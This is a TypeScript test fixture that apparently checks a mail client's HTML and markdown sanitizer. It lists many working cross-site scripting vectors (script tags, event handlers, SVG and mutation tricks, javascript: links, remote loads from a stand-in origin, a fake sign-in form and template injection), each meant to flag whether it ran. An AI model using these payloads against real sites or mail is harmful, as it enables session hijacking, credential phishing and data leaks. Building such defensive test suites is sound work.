/** Whoever signs in as this is shown all {@link vectorsTo}. */
export const TARGET = 'target@example.com';

/** The conversation with every so many-th of them as its subject has these, and those up to the next, as messages. */
export const PER_THREAD = 9;
export const isThread = (index: number): boolean => index % PER_THREAD === 0;

/**
 * What has run, loaded or called home somewhere, as the cheat sheets of OWASP and PortSwigger collect it, and mail in the
 * wild. Each either sets `ran` on the topmost window, or asks for something at `away`.
 *
 * @param away origin that nobody should call
 */
export function vectorsTo(away: string): string[] {
  return VECTORS.map((vector) => vector.replaceAll('AWAY', away).replaceAll('RUN', 'top.ran=1'));
}

const SCRIPTS = [
  '<script>RUN</script>',
  '<ScRiPt >RUN</sCrIpT >',
  '<script src=AWAY/a.js></script>',
  '<script type=module>import("AWAY/b.js")</script>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<<script>RUN;//<</script>',
  '"><script>RUN</script>',
  "'><script>RUN</script>",
  '</title></textarea></style></noscript></script><script>RUN</script>',
  '<script/x>RUN</script/y>',
  '<script\t>RUN</script>',
  '<!--><script>RUN</script>-->',
  '<![CDATA[<script>RUN</script>]]>',
  '&lt;script&gt;RUN&lt;/script&gt;',
  '&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;',
  '%3Cscript%3ERUN%3C/script%3E',
  '\\u003cscript\\u003eRUN\\u003c/script\\u003e',
  '＜script＞RUN＜/script＞',
];

const HANDLERS = [
  '<img src=x onerror=RUN>',
  '<img src=x onerror="RUN" alt="a picture">',
  '<img/src=x/onerror=RUN>',
  '<img """><script>RUN</script>">',
  '<img src=`x` onerror=RUN>',
  '<img src=x:x onerror\t=\tRUN>',
  '<body onload=RUN>',
  '<body onpageshow=RUN>',
  '<input autofocus onfocus=RUN>',
  '<select autofocus onfocus=RUN><option>x</select>',
  '<textarea autofocus onfocus=RUN></textarea>',
  '<button autofocus onfocus=RUN popovertarget=p>x</button>',
  '<details open ontoggle=RUN><summary>x</summary></details>',
  '<video><source onerror=RUN></video>',
  '<video src=x onerror=RUN></video>',
  '<audio src=x onerror=RUN></audio>',
  '<object data=x onerror=RUN></object>',
  '<marquee onstart=RUN>x</marquee>',
  '<p style="animation:a 1s" onanimationstart=RUN>x</p>',
  '<div onbeforescriptexecute=RUN tabindex=1 onfocusin=RUN autofocus>x</div>',
  '" autofocus onfocus=RUN x="',
  "' onmouseover=RUN style='position:fixed;inset:0' x='",
];

const FOREIGN = [
  '<svg onload=RUN>',
  '<svg/onload=RUN//',
  '<svg><script>RUN</script></svg>',
  '<svg><script href="data:text/javascript,RUN" /></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><a><animate attributeName=href values=javascript:RUN /><text x=20 y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=RUN />#x" /></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>RUN</script>"></iframe></foreignObject></svg>',
  '<svg><image href=AWAY/image.png /></svg>',
  '<math><maction actiontype=statusline xlink:href=javascript:RUN>x</maction></math>',
  '<math href="javascript:RUN">x</math>',
];

const MUTATIONS = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
  '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<template><img src=x onerror=RUN></template>',
  '<template shadowrootmode=open><script>RUN</script></template>',
  '<xmp><p title="</xmp><img src=x onerror=RUN>">',
  '<listing>&lt;img src=x onerror=RUN&gt;</listing>',
  '<select><template><style><!--</style><a rel="--><img src=x onerror=RUN>"></template></select>',
  '<table><tr><td background="javascript:RUN">x<caption><img src=x onerror=RUN>',
  '<a id=location href=AWAY><a id=location name=href href=javascript:RUN>clobbered</a>',
  '<!--?lit$123456789$--><!--lit-part--><img src=x onerror=RUN>',
];

const FRAMES = [
  '<iframe srcdoc="<script>RUN</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=RUN&gt;"></iframe>',
  '<iframe src="javascript:RUN"></iframe>',
  '<iframe src="data:text/html,<script>RUN</script>"></iframe>',
  '<iframe src=AWAY/frame></iframe>',
  '<embed src="javascript:RUN">',
  '<object data="javascript:RUN"></object>',
  '<portal src=AWAY/portal></portal>',
];

const LINKS = [
  '<a href="javascript:RUN">x</a>',
  '<a href="JaVaScRiPt:RUN">x</a>',
  '<a href=" &#14; javascript:RUN">x</a>',
  '<a href="java&#9;script:RUN">x</a>',
  '<a href="java\nscript:RUN">x</a>',
  '<a href="&#106;avascript&colon;RUN">x</a>',
  '<a href="\u0001javascript:RUN">x</a>',
  '<a href="javascript://%0aRUN//https://ok.example/">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:AWAY/x">x</a> <a href="file:///etc/passwd">y</a> <a href="//evil.invalid/">z</a>',
  '<a href="https://ok.example@evil.invalid/" ping=AWAY/ping>x</a>',
  'javascript:RUN',
  'data:text/html,<script>RUN</script>',
  'https:javascript:RUN https://"onmouseover=RUN//',
  'mailto:a@example.com?bcc=b@evil.invalid&body=x a@example.com"onmouseover=RUN',
  '[x](javascript:RUN)',
  '[x](<java\nscript:RUN>)',
  '[x](JAVASCRIPT&colon;RUN "title")',
  '[x](data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=)',
  '[x](vbscript:x)',
  '[x]: javascript:RUN\n\n[x]',
  '![x](AWAY/pixel.png)',
  '![x](x"onerror="RUN)',
  '![x](javascript:RUN)',
  '[![x](AWAY/y.png)](javascript:RUN)',
  '<javascript:RUN>',
  'https://xn--80ak6aa92e.example/ https://аррӏе.example/ \u202Ehttps://evil.invalid/\u202C',
];

const LOADS = [
  '<img src=AWAY/pixel.gif width=1 height=1>',
  '<img srcset="AWAY/one.gif 1x, AWAY/two.gif 2x">',
  '<picture><source srcset=AWAY/source.gif><img></picture>',
  '<video poster=AWAY/poster.gif></video>',
  '<link rel=stylesheet href=AWAY/style.css>',
  '<link rel=preload as=image href=AWAY/preload.gif><link rel=dns-prefetch href=AWAY>',
  '<style>@import "AWAY/import.css";</style>',
  '<style>*{background:url(AWAY/all.gif)}</style>',
  '<div style="background:url(AWAY/inline.gif)">x</div>',
  '<p style="background:expression(RUN);behavior:url(AWAY/x.htc)">x</p>',
  '<table background=AWAY/table.gif><tr><td>x</table>',
  '<base href=AWAY/><img src=relative.gif>',
  '<meta http-equiv=refresh content="0;url=AWAY/refresh">',
  '<meta http-equiv=Content-Security-Policy content="script-src *">',
  '<form action=AWAY/form><input name=password><button autofocus>Sign in again</button></form>',
  '<button formaction=javascript:RUN form=reply-form>x</button>',
  '<isindex action=javascript:RUN type=image>',
];

const WORDS = [
  '{{constructor.constructor("RUN")()}}',
  '{{$on.constructor("RUN")()}} [[RUN]] <%= RUN %> #{RUN}',
  '$'.concat('{RUN}'),
  '${'.concat('alert`1`}', '`-RUN-`'),
  '__proto__ constructor toString {"__proto__":{"ran":1}}',
  '\u202Egpj.exe\u202C \u2066hidden\u2069 \u200Bzero\u200Dwidth \uFEFF',
  'lone \uFFFD replacement, combining Z\u0335\u0321\u034C\u0360\u0489, a\u0300\u0301\u0302\u0303',
  'file.png\u0000.html <\u0000script>RUN</script>',
];

const VECTORS = [...SCRIPTS, ...HANDLERS, ...FOREIGN, ...MUTATIONS, ...FRAMES, ...LINKS, ...LOADS, ...WORDS];
